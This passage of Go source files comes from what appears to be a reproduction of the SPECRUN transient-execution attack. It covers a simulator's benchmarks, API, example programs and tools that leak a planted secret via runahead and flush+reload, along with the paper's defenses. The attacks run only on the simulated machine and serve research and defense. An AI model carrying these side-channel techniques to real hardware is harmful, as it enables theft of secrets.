	benchAttack(b, core.DefaultConfig(), attack.DefaultParams(), true)
}

// ---- Fig. 10: transient window ----

func benchWindow(b *testing.B, s attack.WindowScenario, paperN float64) {
	var r attack.WindowResult
	var err error
	for i := 0; i < b.N; i++ {
		r, err = attack.MeasureWindow(core.DefaultConfig(), s)
		if err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(r.N), "N")
	b.ReportMetric(paperN, "paper_N")
}

func BenchmarkFig10_Window1_Normal(b *testing.B) {
	benchWindow(b, attack.Window1NormalFlushOnce, 255)
}
func BenchmarkFig10_Window2_Runahead(b *testing.B) {
	benchWindow(b, attack.Window2RunaheadFlushOnce, 480)
}
func BenchmarkFig10_Window3_Repeat(b *testing.B) {
	benchWindow(b, attack.Window3RunaheadFlushRepeat, 840)
}

// ---- Fig. 11: beyond-the-ROB leak ----

func fig11Params() attack.Params {
	p := attack.DefaultParams()
	p.Secret = []byte{127}
	p.NopPad = 300
	return p
}

func BenchmarkFig11_BeyondROB_Runahead(b *testing.B) {
	benchAttack(b, core.DefaultConfig(), fig11Params(), true)
}

func BenchmarkFig11_BeyondROB_NoRunahead(b *testing.B) {
	benchAttack(b, core.BaselineConfig(), fig11Params(), false)
}

// ---- Fig. 12: taint tracking ----

// BenchmarkFig12_TaintTracking measures the §6 tracker on the paper's
// two-branch nesting pattern (the per-pseudo-retire hardware work).
func BenchmarkFig12_TaintTracking(b *testing.B) {
	for i := 0; i < b.N; i++ {
		tr := secure.NewTracker()
		tr.Observe(100)
		tr.RegisterBranch(100, 200, true, 1)
		tr.Observe(104)
		tr.RegisterBranch(104, 160, true, 2)
		for pc := uint64(108); pc < 200; pc += 4 {
			tr.Observe(pc)
			tr.Propagate(uint16(pc%32), 1, 2)
			if pc%16 == 0 {
				tag, is := tr.OnLoad(pc, tr.TaintOf(uint16(pc%32)))
				_ = tag
				_ = is
			}
		}
	}
}

// ---- §6: defenses ----

func BenchmarkDefense_SLCache_BlocksLeak(b *testing.B) {
	benchAttack(b, core.SecureConfig(), fig11Params(), false)
}

func BenchmarkDefense_SkipINV_BlocksLeak(b *testing.B) {
	cfg := core.DefaultConfig()
	cfg.Runahead.SkipINVBranch = true
	benchAttack(b, cfg, fig11Params(), false)
}

// BenchmarkDefense_SLCache_Overhead reports the §6 performance cost on the
// most memory-bound Fig. 7 kernel.
func BenchmarkDefense_SLCache_Overhead(b *testing.B) {
	k, _ := workload.ByName("Gems")
	var vuln, sec uint64
	for i := 0; i < b.N; i++ {
		m1, err := core.RunProgram(core.DefaultConfig(), k.Build())
		if err != nil {
			b.Fatal(err)
		}
		m2, err := core.RunProgram(core.SecureConfig(), k.Build())
		if err != nil {
			b.Fatal(err)
		}
		vuln, sec = m1.Stats().Cycles, m2.Stats().Cycles
	}
	b.ReportMetric(100*(float64(sec)/float64(vuln)-1), "overhead_%")
}

// ---- §4.3 / §4.4: variants ----

func BenchmarkVariant_SpectreBTB(b *testing.B) {
	p := attack.DefaultParams()
	p.Variant = attack.VariantBTB
	p.NopPad = 300
	benchAttack(b, attack.ConfigFor(p.Variant, core.DefaultConfig()), p, true)
}

func BenchmarkVariant_SpectreRSB_Overwrite(b *testing.B) {
	p := attack.DefaultParams()
	p.Variant = attack.VariantRSBOverwrite
	benchAttack(b, core.DefaultConfig(), p, true)
}

func BenchmarkVariant_SpectreRSB_Flush(b *testing.B) {
	p := attack.DefaultParams()
	p.Variant = attack.VariantRSBFlush
	benchAttack(b, core.DefaultConfig(), p, true)
}

func BenchmarkVariant_PreciseRunahead(b *testing.B) {
	p := attack.DefaultParams()
	p.NopPad = 300
	benchAttack(b, core.VariantConfig(runahead.KindPrecise), p, true)
}

func BenchmarkVariant_VectorRunahead(b *testing.B) {
	p := attack.DefaultParams()
	p.NopPad = 300
	benchAttack(b, core.VariantConfig(runahead.KindVector), p, true)
}

// ---- Ablations (design choices DESIGN.md calls out) ----

// BenchmarkAblation_Table1RegisterFiles quantifies the literal Table 1
// register-file sizes (80/40/40): the window starves at ~48 in-flight
// integer writers and baseline MLP collapses.
func BenchmarkAblation_Table1RegisterFiles(b *testing.B) {
	k, _ := workload.ByName("bwave")
	var def, t1 uint64
	for i := 0; i < b.N; i++ {
		m1, err := core.RunProgram(core.BaselineConfig(), k.Build())
		if err != nil {
			b.Fatal(err)
		}
		m2, err := core.RunProgram(cpu.Table1RegisterFiles(core.BaselineConfig()), k.Build())
		if err != nil {
			b.Fatal(err)
		}
		def, t1 = m1.Stats().Cycles, m2.Stats().Cycles
	}
	b.ReportMetric(100*(float64(t1)/float64(def)-1), "slowdown_%")
}

// BenchmarkAblation_RSBSize shows the Fig. 4c surface shrinking with a
// deeper return stack (the stale entry gets buried).
func BenchmarkAblation_RSBSize(b *testing.B) {
	p := attack.DefaultParams()
	p.Variant = attack.VariantRSBFlush
	cfg := core.DefaultConfig()
	cfg.Branch.RSBSize = 64
	var r core.AttackResult
	var err error
	for i := 0; i < b.N; i++ {
		r, err = core.RunAttack(cfg, p)
		if err != nil {
			b.Fatal(err)
		}
	}
	// The attack still works (the stale entry is still on top); the metric
	// records the covert-channel contrast for comparison with the default.
	b.ReportMetric(float64(r.Median)/float64(maxU(1, r.BestLat)), "latency_contrast")
}

// BenchmarkAblation_ExitPenalty sweeps the runahead exit penalty's effect on
// the most runahead-friendly kernel.
func BenchmarkAblation_ExitPenalty(b *testing.B) {
	k, _ := workload.ByName("Gems")
	cfg := core.DefaultConfig()
	cfg.Runahead.ExitPenalty = 32
	var slow, fast uint64
	for i := 0; i < b.N; i++ {
		m1, err := core.RunProgram(core.DefaultConfig(), k.Build())
		if err != nil {
			b.Fatal(err)
		}
		m2, err := core.RunProgram(cfg, k.Build())
		if err != nil {
			b.Fatal(err)
		}
		fast, slow = m1.Stats().Cycles, m2.Stats().Cycles
	}
	b.ReportMetric(100*(float64(slow)/float64(fast)-1), "slowdown_%")
}

// BenchmarkSimSpeed reports raw simulator throughput in simulated cycles per
// second of host time, on the steady-state path every sweep and fuzz worker
// now takes: one machine, Reset per program.  Run with -benchmem; the
// allocs/op figure is the zero-allocation tentpole's regression canary (the
// committed baseline in bench/ gates it in CI).
func BenchmarkSimSpeed(b *testing.B) {
	prog := proggen.Generate(42, proggen.DefaultOptions())
	m := core.NewMachine(core.DefaultConfig(), prog)
	if err := m.Run(50_000_000); err != nil { // warmup: size pools and pages
		b.Fatal(err)
	}
	var cycles uint64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m.Reset(prog)
		if err := m.Run(50_000_000); err != nil {
			b.Fatal(err)
		}
		cycles += m.Stats().Cycles
	}
	b.ReportMetric(float64(cycles)/b.Elapsed().Seconds(), "sim_cycles/s")
}

// BenchmarkBatchSimSpeed is BenchmarkSimSpeed on the batched driver: four
// machines advanced in lockstep by one serial loop (cpu.Batch), the path the
// campaign drivers take under --lanes.  The metric is aggregate simulated
// cycles across the lanes per host second; like the single-lane benchmark the
// steady state performs zero heap allocations per op (pinned by the cpu
// package's alloc suite and the committed baseline).  On multi-core hosts
// Batch.SetParallel shards the lanes across cores for a near-linear further
// win; this benchmark stays serial so allocs/op stays exactly zero.
func BenchmarkBatchSimSpeed(b *testing.B) {
	const lanes = 4
	progs := make([]*asm.Program, lanes)
	for i := range progs {
		progs[i] = proggen.Generate(42+int64(i), proggen.DefaultOptions())
	}
	batch := cpu.NewBatch(core.DefaultConfig(), lanes)
	for _, err := range batch.RunPrograms(progs, 50_000_000) { // warmup all lanes
		if err != nil {
			b.Fatal(err)
		}
	}
	var cycles uint64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for li, err := range batch.RunPrograms(progs, 50_000_000) {
			if err != nil {
				b.Fatal(err)
			}
			cycles += batch.CPU(li).Stats().Cycles
		}
	}
	b.ReportMetric(float64(cycles)/b.Elapsed().Seconds(), "sim_cycles/s")
}

// BenchmarkSimSpeed_Fresh is the same workload with a throwaway machine per
// run — the only mode the simulator had before machine reuse existed.  The
// gap between the two is the cost of rebuilding caches, predictors and
// queues per job.
func BenchmarkSimSpeed_Fresh(b *testing.B) {
	prog := proggen.Generate(42, proggen.DefaultOptions())
	var cycles uint64
	for i := 0; i < b.N; i++ {
		m, err := core.RunProgram(core.DefaultConfig(), prog)
		if err != nil {
			b.Fatal(err)
		}
		cycles += m.Stats().Cycles
	}
	b.ReportMetric(float64(cycles)/b.Elapsed().Seconds(), "sim_cycles/s")
}

func maxU(a, b uint64) uint64 {
	if a > b {
		return a
	}
	return b
}
