// Package specrun is the public facade of the SPECRUN reproduction: a
// cycle-level out-of-order processor simulator with runahead execution, the
// SPECRUN transient-execution attack (DAC 2024), and the paper's secure
// runahead defense.
//
// Quick start:
//
//	cfg := specrun.DefaultConfig()          // Table 1 machine with runahead
//	res, err := specrun.RunFig9(cfg)        // the Fig. 9 PoC
//	if b, ok := res.LeakedByte(); ok { ... }
//
// The heavy lifting lives in the internal packages; this package re-exports
// the experiment-level API used by the command-line tools, the examples and
// the benchmark harness.  Multi-run drivers shard their independent
// simulations across a worker pool (specrun/internal/sweep); the *Ctx
// variants expose cancellation and the worker count.
package specrun

import (
	"specrun/internal/asm"
	"specrun/internal/attack"
	"specrun/internal/core"
	"specrun/internal/difftest"
	"specrun/internal/prog"
	"specrun/internal/runahead"
	"specrun/internal/server"
)

// Config is the machine configuration (Table 1 defaults).
type Config = core.Config

// Machine is one simulated processor executing one program.
type Machine = core.Machine

// AttackResult is the outcome of one PoC run.
type AttackResult = core.AttackResult

// AttackParams configures a PoC build.
type AttackParams = attack.Params

// IPCRow is one bar pair of Fig. 7.
type IPCRow = core.IPCRow

// RunaheadKind selects the runahead variant.
type RunaheadKind = runahead.Kind

// Runahead variants.
const (
	RunaheadNone     = runahead.KindNone
	RunaheadOriginal = runahead.KindOriginal
	RunaheadPrecise  = runahead.KindPrecise
	RunaheadVector   = runahead.KindVector
)

// Configuration constructors.
var (
	DefaultConfig  = core.DefaultConfig
	BaselineConfig = core.BaselineConfig
	SecureConfig   = core.SecureConfig
	VariantConfig  = core.VariantConfig
)

// Experiment drivers (one per table/figure of the paper).  The multi-run
// drivers shard their independent simulations across a worker pool; the
// Ctx variants expose cancellation and the worker count (0 = GOMAXPROCS).
var (
	RunFig9             = core.RunFig9
	RunFig10            = core.RunFig10
	RunFig10Ctx         = core.RunFig10Ctx
	RunFig11            = core.RunFig11
	RunFig11Ctx         = core.RunFig11Ctx
	RunIPCComparison    = core.RunIPCComparison
	RunIPCComparisonCtx = core.RunIPCComparisonCtx
	RunDefense          = core.RunDefense
	RunDefenseCtx       = core.RunDefenseCtx
	RunVariantMatrix    = core.RunVariantMatrix
	RunVariantMatrixCtx = core.RunVariantMatrixCtx
	RunAttack           = core.RunAttack
	NewMachine          = core.NewMachine
	RunProgram          = core.RunProgram
)

// Report formatters.
var (
	Table1         = core.Table1
	FormatIPC      = core.FormatIPC
	FormatProbe    = core.FormatProbe
	FormatWindows  = core.FormatWindows
	FormatDefense  = core.FormatDefense
	FormatVariants = core.FormatVariants
	MeanSpeedup    = core.MeanSpeedup
)

// DefaultAttackParams returns the Fig. 8/9 attack parameters.
func DefaultAttackParams() AttackParams { return attack.DefaultParams() }

// Server is the simulation-as-a-service HTTP API behind `specrun serve`:
// one POST /v1/run/{driver} endpoint per paper artifact, sweeps, async
// jobs, and a content-addressed result cache with singleflight.  Mount
// NewServer(...).Handler() on any http.Server to embed it.
type Server = server.Server

// ServerOptions configures NewServer (worker budget, cache bound).
type ServerOptions = server.Options

// SweepSpec is the grid specification shared by `specrun sweep` and the
// POST /v1/sweep endpoint.
type SweepSpec = server.SweepSpec

// NewServer builds the simulation service.
func NewServer(opts ServerOptions) *Server { return server.New(opts) }

// Serving helpers: the canonical hash behind the result cache, the
// canonical JSON encoder shared by the API and the CLI, and the build
// version reported by `specrun version` and GET /v1/stats.
var (
	NormalizeConfig = core.Normalize
	HashKey         = core.HashKey
	EncodeJSON      = server.Encode
	Version         = server.Version
)

// Program is an assembled program: instructions, data segments and symbols.
type Program = asm.Program

// ProgramExt is the canonical interchange-binary file extension.
const ProgramExt = prog.Ext

// Program interchange (specrun/internal/prog): assembly text and the
// canonical versioned .sprog binary are two spellings of the same program,
// and the binary's SHA-256 is its content address — the cache key behind
// POST /v1/run/program and the identity printed by `specrun asm|run`.
var (
	ParseAsm           = asm.Parse        // asm text → *Program
	EncodeProgram      = prog.Encode      // *Program → canonical .sprog bytes
	DecodeProgram      = prog.Decode      // .sprog bytes → *Program (strict)
	AssembleProgram    = prog.Assemble    // asm text → .sprog bytes
	DisassembleProgram = prog.Disassemble // .sprog bytes → canonical asm text
	ProgramHash        = prog.Hash        // content address of .sprog bytes
	RunProgramStats    = core.RunProgramStats
)

// Differential fuzzing (specrun/internal/difftest): random programs run in
// lockstep on the in-order reference interpreter and the OoO pipeline
// across the runahead × secure × ROB matrix — the golden-model oracle
// behind `specrun fuzz` and POST /v1/run/fuzz.
type (
	// FuzzSpec parameterises one campaign (seeds, matrix, body length).
	FuzzSpec = difftest.CampaignSpec
	// FuzzReport is the deterministic campaign outcome.
	FuzzReport = difftest.Report
	// FuzzDivergence is one golden-model violation, with its minimized
	// reproducer when the shrinker ran.
	FuzzDivergence = difftest.Divergence
)

// RunFuzzCampaign executes a differential fuzzing campaign on the sweep
// engine; FuzzMatrix exposes the configuration matrix it checks.
var (
	RunFuzzCampaign = difftest.Run
	FuzzMatrix      = difftest.Matrix
)
