// spectre_variants walks the applicability matrix of §4.3/§4.4: the SPECRUN
// attack through each Spectre training mechanism (PHT, BTB, both RSB forms)
// and on each runahead variant (original, precise, vector).
package main

import (
	"fmt"
	"log"

	"specrun/internal/core"
)

func main() {
	rows, err := core.RunVariantMatrix(core.DefaultConfig())
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(core.FormatVariants(rows))
	fmt.Println()
	fmt.Println("every mechanism that lets the branch predictor steer execution past an")
	fmt.Println("unresolved (INV-source) branch inside runahead mode leaks the secret —")
	fmt.Println("the paper's point that the vulnerability is the *combination* of")
	fmt.Println("optimizations, not any single one.")
}
