// HTTP client walk: start the simulation service in-process, reproduce
// Fig. 9 over the wire, and watch the content-addressed cache turn the
// second identical request into a byte-for-byte replay — the serving story
// behind `specrun serve`.
package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"log"
	"net"
	"net/http"
	"time"

	"specrun"
)

func main() {
	// The same server `specrun serve` runs, mounted on an ephemeral port.
	srv := specrun.NewServer(specrun.ServerOptions{Workers: 0, CacheEntries: 64})
	defer srv.Close()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	hs := &http.Server{Handler: srv.Handler()}
	go hs.Serve(ln)
	defer hs.Close()
	base := "http://" + ln.Addr().String()
	fmt.Printf("serving on %s\n\n", base)

	// Fig. 9 over HTTP: POST an empty body to run the paper configuration.
	body1, cache1, dur1 := post(base+"/v1/run/fig9", "{}")
	var fig9 struct {
		BestIdx int    `json:"best_idx"`
		BestLat uint64 `json:"best_lat"`
		Median  uint64 `json:"median"`
		Leaked  bool   `json:"leaked"`
	}
	if err := json.Unmarshal(body1, &fig9); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("POST /v1/run/fig9   %-4s  %8s  leaked byte %d (lat %d vs median %d)\n",
		cache1, dur1.Round(time.Millisecond), fig9.BestIdx, fig9.BestLat, fig9.Median)

	// The identical request again: served from the cache, byte-identical.
	body2, cache2, dur2 := post(base+"/v1/run/fig9", "{}")
	fmt.Printf("POST /v1/run/fig9   %-4s  %8s  byte-identical: %v\n",
		cache2, dur2.Round(time.Microsecond), bytes.Equal(body1, body2))

	// A different machine (half the ROB) is a different cache entry.
	_, cache3, _ := post(base+"/v1/run/fig9", `{"config": {"rob_size": 128}}`)
	fmt.Printf("POST /v1/run/fig9   %-4s  (rob_size 128: new configuration, new entry)\n\n", cache3)

	// The server's own accounting.
	resp, err := http.Get(base + "/v1/stats")
	if err != nil {
		log.Fatal(err)
	}
	defer resp.Body.Close()
	var stats struct {
		Simulations uint64 `json:"simulations"`
		Cache       struct {
			Hits    uint64  `json:"hits"`
			Misses  uint64  `json:"misses"`
			HitRate float64 `json:"hit_rate"`
		} `json:"cache"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&stats); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("GET  /v1/stats            simulations %d, cache %d/%d hit (rate %.2f)\n",
		stats.Simulations, stats.Cache.Hits, stats.Cache.Hits+stats.Cache.Misses, stats.Cache.HitRate)
}

// post issues one JSON request and reports the body, the X-Cache
// disposition and the wall time.
func post(url, body string) ([]byte, string, time.Duration) {
	start := time.Now()
	resp, err := http.Post(url, "application/json", bytes.NewReader([]byte(body)))
	if err != nil {
		log.Fatal(err)
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	if _, err := buf.ReadFrom(resp.Body); err != nil {
		log.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		log.Fatalf("POST %s: %d %s", url, resp.StatusCode, buf.String())
	}
	return buf.Bytes(), resp.Header.Get("X-Cache"), time.Since(start)
}
