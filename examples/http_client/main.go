// HTTP client walk: start the simulation service in-process, reproduce
// Fig. 9 over the wire, and watch the content-addressed cache turn the
// second identical request into a byte-for-byte replay — the serving story
// behind `specrun serve`.
package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"log"
	"net"
	"net/http"
	"strings"
	"time"

	"specrun"
)

func main() {
	// The same server `specrun serve` runs, mounted on an ephemeral port.
	srv := specrun.NewServer(specrun.ServerOptions{Workers: 0, CacheEntries: 64})
	defer srv.Close()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	hs := &http.Server{Handler: srv.Handler()}
	go hs.Serve(ln)
	defer hs.Close()
	base := "http://" + ln.Addr().String()
	fmt.Printf("serving on %s\n\n", base)

	// Fig. 9 over HTTP: POST an empty body to run the paper configuration.
	body1, cache1, dur1 := post(base+"/v1/run/fig9", "{}")
	var fig9 struct {
		BestIdx int    `json:"best_idx"`
		BestLat uint64 `json:"best_lat"`
		Median  uint64 `json:"median"`
		Leaked  bool   `json:"leaked"`
	}
	if err := json.Unmarshal(body1, &fig9); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("POST /v1/run/fig9   %-4s  %8s  leaked byte %d (lat %d vs median %d)\n",
		cache1, dur1.Round(time.Millisecond), fig9.BestIdx, fig9.BestLat, fig9.Median)

	// The identical request again: served from the cache, byte-identical.
	body2, cache2, dur2 := post(base+"/v1/run/fig9", "{}")
	fmt.Printf("POST /v1/run/fig9   %-4s  %8s  byte-identical: %v\n",
		cache2, dur2.Round(time.Microsecond), bytes.Equal(body1, body2))

	// A different machine (half the ROB) is a different cache entry.
	_, cache3, _ := post(base+"/v1/run/fig9", `{"config": {"rob_size": 128}}`)
	fmt.Printf("POST /v1/run/fig9   %-4s  (rob_size 128: new configuration, new entry)\n\n", cache3)

	// Program interchange: POST /v1/run/program accepts an arbitrary program
	// as assembly text.  The response names the program by the SHA-256 of
	// its canonical .sprog binary — its content address.
	src := ".org 0x1000\nstart:\n  movi r1, 64\nloop:\n  addi r1, r1, -1\n  bne r1, r0, loop\n  halt\n"
	asmReq, _ := json.Marshal(map[string]any{"asm": src})
	body4, cache4, _ := post(base+"/v1/run/program", string(asmReq))
	var progRes struct {
		Sprog string `json:"sprog_sha256"`
		Insts int    `json:"insts"`
		Stats struct {
			Cycles    uint64 `json:"cycles"`
			Committed uint64 `json:"committed"`
		} `json:"stats"`
	}
	if err := json.Unmarshal(body4, &progRes); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("POST /v1/run/program %-4s  asm:    %d insts, %d cycles, sprog %.12s\n",
		cache4, progRes.Insts, progRes.Stats.Cycles, progRes.Sprog)

	// The same program in canonical binary form is the same content address,
	// so it lands on the same cache entry (HIT, byte-identical body).
	bin, err := specrun.AssembleProgram("example", src)
	if err != nil {
		log.Fatal(err)
	}
	binReq, _ := json.Marshal(map[string]any{"binary": bin}) // []byte → base64
	body5, cache5, _ := post(base+"/v1/run/program", string(binReq))
	fmt.Printf("POST /v1/run/program %-4s  binary: same entry, byte-identical: %v\n\n",
		cache5, bytes.Equal(body4, body5))

	// The async arm: submit the program as a job and follow its lifecycle on
	// the SSE stream — "progress" events while it runs, then one terminal
	// event named after the final status.
	jobReq, _ := json.Marshal(map[string]any{"program": map[string]any{"asm": src}})
	jobResp, err := http.Post(base+"/v1/jobs", "application/json", bytes.NewReader(jobReq))
	if err != nil {
		log.Fatal(err)
	}
	var jobView struct {
		ID string `json:"id"`
	}
	if err := json.NewDecoder(jobResp.Body).Decode(&jobView); err != nil {
		log.Fatal(err)
	}
	jobResp.Body.Close()
	events, err := http.Get(base + "/v1/jobs/" + jobView.ID + "/events")
	if err != nil {
		log.Fatal(err)
	}
	defer events.Body.Close()
	sc := bufio.NewScanner(events.Body)
	for sc.Scan() {
		if name, ok := strings.CutPrefix(sc.Text(), "event: "); ok {
			fmt.Printf("GET  /v1/jobs/%s/events   event: %s\n", jobView.ID, name)
		}
	}
	fmt.Println()

	// The server's own accounting.
	resp, err := http.Get(base + "/v1/stats")
	if err != nil {
		log.Fatal(err)
	}
	defer resp.Body.Close()
	var stats struct {
		Simulations uint64 `json:"simulations"`
		Cache       struct {
			Hits    uint64  `json:"hits"`
			Misses  uint64  `json:"misses"`
			HitRate float64 `json:"hit_rate"`
		} `json:"cache"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&stats); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("GET  /v1/stats            simulations %d, cache %d/%d hit (rate %.2f)\n",
		stats.Simulations, stats.Cache.Hits, stats.Cache.Hits+stats.Cache.Misses, stats.Cache.HitRate)
}

// post issues one JSON request and reports the body, the X-Cache
// disposition and the wall time.
func post(url, body string) ([]byte, string, time.Duration) {
	start := time.Now()
	resp, err := http.Post(url, "application/json", bytes.NewReader([]byte(body)))
	if err != nil {
		log.Fatal(err)
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	if _, err := buf.ReadFrom(resp.Body); err != nil {
		log.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		log.Fatalf("POST %s: %d %s", url, resp.StatusCode, buf.String())
	}
	return buf.Bytes(), resp.Header.Get("X-Cache"), time.Since(start)
}
