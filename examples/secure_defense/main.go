// secure_defense evaluates §6 of the paper: the Fig. 11 attack against the
// vulnerable runahead machine, the SL-cache scheme (Algorithm 1) and the
// skip-INV-branch restriction — then measures what the defenses cost on the
// Fig. 7 workloads.
package main

import (
	"fmt"
	"log"

	"specrun/internal/core"
	"specrun/internal/workload"
)

func main() {
	d, err := core.RunDefense(core.DefaultConfig())
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(core.FormatDefense(d))

	fmt.Println("\nperformance cost on the Fig. 7 kernels (cycles, lower is better):")
	fmt.Printf("  %-8s %12s %12s %12s %10s\n", "bench", "runahead", "SL cache", "skip-INV", "SL cost")
	cfgs := []core.Config{core.DefaultConfig(), core.SecureConfig(), skipINVConfig()}
	for _, k := range workload.Kernels() {
		var cycles [3]uint64
		for i, cfg := range cfgs {
			m, err := core.RunProgram(cfg, k.Build())
			if err != nil {
				log.Fatal(err)
			}
			cycles[i] = m.Stats().Cycles
		}
		fmt.Printf("  %-8s %12d %12d %12d %9.1f%%\n", k.Name,
			cycles[0], cycles[1], cycles[2],
			100*(float64(cycles[1])/float64(cycles[0])-1))
	}
	fmt.Println("\nthe SL cache keeps runahead's prefetches private until their branch")
	fmt.Println("resolves, trading a little of the Fig. 7 speedup for SPECRUN immunity.")
}

func skipINVConfig() core.Config {
	cfg := core.DefaultConfig()
	cfg.Runahead.SkipINVBranch = true
	return cfg
}
