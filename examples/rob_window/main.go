// rob_window reproduces Fig. 10 / §5.3: runahead execution logically
// enlarges the reorder buffer.  It measures the transient instruction window
// in the paper's three scenarios and shows the per-episode progression of
// scenario ③ (later episodes run deeper as the instruction cache warms).
package main

import (
	"fmt"
	"log"

	"specrun/internal/core"
)

func main() {
	cfg := core.DefaultConfig()
	n1, n2, n3, err := core.RunFig10(cfg)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(core.FormatWindows(n1, n2, n3))
	fmt.Println()
	fmt.Printf("scenario ② episode reaches: %v\n", n2.Reaches)
	fmt.Printf("scenario ③ episode reaches: %v\n", n3.Reaches)
	fmt.Println()
	fmt.Printf("the ROB has %d entries; a single runahead episode already exceeds it\n", cfg.ROBSize)
	fmt.Printf("(N2 = %d), and repeated flushing reaches %.1fx the window (N3 = %d).\n",
		n2.N, float64(n3.N)/float64(cfg.ROBSize), n3.N)
}
