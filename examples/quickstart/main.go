// Quickstart: assemble a small program with the text assembler, run it on
// the Table 1 out-of-order machine, and read back registers and statistics.
package main

import (
	"fmt"
	"log"

	"specrun/internal/asm"
	"specrun/internal/core"
)

const src = `
; sum the integers 1..100, then measure a cache miss by hand
.data 0x100000
buf: .zero 64

start:
    movi r1, 100
    movi r2, 0
loop:
    add  r2, r2, r1
    addi r1, r1, -1
    bne  r1, r0, loop

    movi r3, buf
    clflush [r3]         ; evict the line
    fence
    rdtsc r4
    ld   r5, [r3 + 0]    ; memory-latency load
    rdtsc r6
    sub  r7, r6, r4      ; measured miss latency
    halt
`

func main() {
	prog, err := asm.Parse("quickstart", src)
	if err != nil {
		log.Fatal(err)
	}
	m, err := core.RunProgram(core.DefaultConfig(), prog)
	if err != nil {
		log.Fatal(err)
	}
	st := m.Stats()
	fmt.Printf("sum(1..100)      = %d\n", m.IntReg(2))
	fmt.Printf("miss latency     = %d cycles (flush+reload primitive)\n", m.IntReg(7))
	fmt.Printf("cycles           = %d\n", st.Cycles)
	fmt.Printf("committed        = %d (IPC %.2f)\n", st.Committed, st.IPC())
	fmt.Printf("branches         = %d (%d mispredicted)\n", st.CondBranches, st.CondMispredicts)
	fmt.Printf("runahead entries = %d\n", st.RunaheadEpisodes)
}
