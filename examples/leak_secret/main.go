// leak_secret runs the full SPECRUN proof-of-concept of Fig. 8: it plants a
// multi-byte secret in the victim's address space, extracts it byte by byte
// through the runahead transient window and the flush+reload covert channel,
// and renders the Fig. 9 probe sweep for the first byte.
package main

import (
	"fmt"
	"log"

	"specrun/internal/attack"
	"specrun/internal/core"
)

func main() {
	secret := []byte("SPECRUN!")
	p := attack.DefaultParams()
	p.Secret = secret
	p.NopPad = 300 // beyond the 256-entry ROB: only runahead can leak this

	fmt.Printf("victim secret: %q (planted out of bounds, guarded by a bounds check)\n\n", secret)

	got, results, err := attack.LeakSecret(core.DefaultConfig(), p)
	if err != nil {
		log.Fatal(err)
	}
	for i, r := range results {
		fmt.Printf("byte %d: leaked %3d %-4q  probe min %3d cycles @ index %3d (median %d)\n",
			i, got[i], string(rune(got[i])), r.BestLat, r.BestIdx, r.Median)
	}
	fmt.Printf("\nrecovered: %q\n\n", string(got))

	fmt.Println("Fig. 9-style sweep for byte 0:")
	fmt.Print(core.FormatProbe(results[0], 10))
}
