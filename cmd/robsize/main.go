// Command robsize regenerates Fig. 10 of the SPECRUN paper: the size of the
// transient instruction window in the three measurement scenarios (normal
// mode, one runahead episode, repeated flushing).
package main

import (
	"fmt"
	"os"

	"specrun/internal/core"
)

func main() {
	n1, n2, n3, err := core.RunFig10(core.DefaultConfig())
	if err != nil {
		fmt.Fprintln(os.Stderr, "robsize:", err)
		os.Exit(1)
	}
	fmt.Print(core.FormatWindows(n1, n2, n3))
	fmt.Printf("\nper-episode reaches:\n  N2: %v\n  N3: %v\n", n2.Reaches, n3.Reaches)
}
