// Command attackpoc runs the SPECRUN proof-of-concept of Fig. 8 and renders
// the probe sweeps of Fig. 9 (plain PoC) or Fig. 11 (secret access pushed
// beyond the reorder buffer, on both machines).
package main

import (
	"flag"
	"fmt"
	"os"

	"specrun/internal/core"
)

func main() {
	fig := flag.Int("fig", 9, "9 (PoC sweep) or 11 (beyond-the-ROB comparison)")
	flag.Parse()

	switch *fig {
	case 9:
		r, err := core.RunFig9(core.DefaultConfig())
		if err != nil {
			fatal(err)
		}
		fmt.Println("Fig. 9: probe access time after SPECRUN (secret 86)")
		fmt.Print(core.FormatProbe(r, 12))
	case 11:
		r, err := core.RunFig11(core.DefaultConfig())
		if err != nil {
			fatal(err)
		}
		fmt.Println("Fig. 11 (secret 127, 300-nop pad)")
		fmt.Println("-- no-runahead machine:")
		fmt.Print(core.FormatProbe(r.NoRunahead, 8))
		fmt.Println("-- runahead machine:")
		fmt.Print(core.FormatProbe(r.Runahead, 8))
	default:
		fmt.Fprintln(os.Stderr, "attackpoc: -fig must be 9 or 11")
		os.Exit(2)
	}
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "attackpoc:", err)
	os.Exit(1)
}
