// Command ipcbench regenerates Fig. 7 of the SPECRUN paper: normalized IPC
// of the six SPEC2006-like kernels on the no-runahead and runahead machines.
//
// Flags select a runahead variant and optionally the literal Table 1
// register-file sizes (an ablation: the printed 80/40/40 starve the window).
package main

import (
	"flag"
	"fmt"
	"os"

	"specrun/internal/core"
	"specrun/internal/cpu"
	"specrun/internal/runahead"
)

func main() {
	mode := flag.String("runahead", "original", "original | precise | vector")
	table1RF := flag.Bool("table1-rf", false, "use the literal Table 1 register-file sizes")
	flag.Parse()

	cfg := core.DefaultConfig()
	switch *mode {
	case "original":
	case "precise":
		cfg.Runahead.Kind = runahead.KindPrecise
	case "vector":
		cfg.Runahead.Kind = runahead.KindVector
	default:
		fmt.Fprintf(os.Stderr, "ipcbench: unknown runahead mode %q\n", *mode)
		os.Exit(2)
	}
	if *table1RF {
		cfg = cpu.Table1RegisterFiles(cfg)
	}

	rows, err := core.RunIPCComparison(cfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, "ipcbench:", err)
